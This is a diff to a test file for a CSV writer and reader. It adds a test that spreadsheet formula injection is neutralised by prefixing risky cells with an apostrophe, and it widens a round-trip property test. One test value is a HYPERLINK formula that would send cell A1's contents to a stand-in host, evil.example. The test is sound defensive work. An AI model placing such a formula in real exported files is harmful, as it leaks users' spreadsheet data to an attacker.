@@ -46,8 +46,25 @@ describe('RFC 4180 writer and reader', () => {
     expect(() => readCsv(text)).toThrow(new RegExp(`^Line ${line}:`));
   });
 
+  it('keeps a spreadsheet from running a pasted formula, and reads the text back unchanged', () => {
+    const cells = ['=HYPERLINK("http://evil.example/?"&A1,"x")', '+1 555', '-2+3', '@SUM(1)', '\tx', "'=1", 'a=b', "it's"];
+    const text = writeCsv([cells]);
+    expect(readCsv(text, { unguardFormulas: false })[0]!.fields).toEqual([
+      '\'=HYPERLINK("http://evil.example/?"&A1,"x")',
+      "'+1 555",
+      "'-2+3",
+      "'@SUM(1)",
+      "'\tx",
+      "''=1",
+      'a=b',
+      "it's",
+    ]);
+    expect(readCsv(text)[0]!.fields).toEqual(cells);
+    expect(writeCsv([['=1']], { guardFormulas: false })).toBe('=1\r\n');
+  });
+
   it('round-trips any table of strings (property)', () => {
-    const cell = fc.string({ unit: fc.constantFrom('a', 'ب', 'ـ', '\u064e', '\u200c', '\u200f', ',', '"', '\n', '\r', ' ', '😀', '<', '&') });
+    const cell = fc.string({ unit: fc.constantFrom('a', 'ب', 'ـ', '\u064e', '\u200c', '\u200f', ',', '"', '\n', '\r', ' ', '😀', '<', '&', '=', "'", '-', '+', '@', '\t') });
     const table = fc.integer({ min: 1, max: 5 }).chain((w) => fc.array(fc.array(cell, { minLength: w, maxLength: w }), { minLength: 1, maxLength: 6 }));
     fc.assert(
       fc.property(table, fc.boolean(), (rows, bom) => {
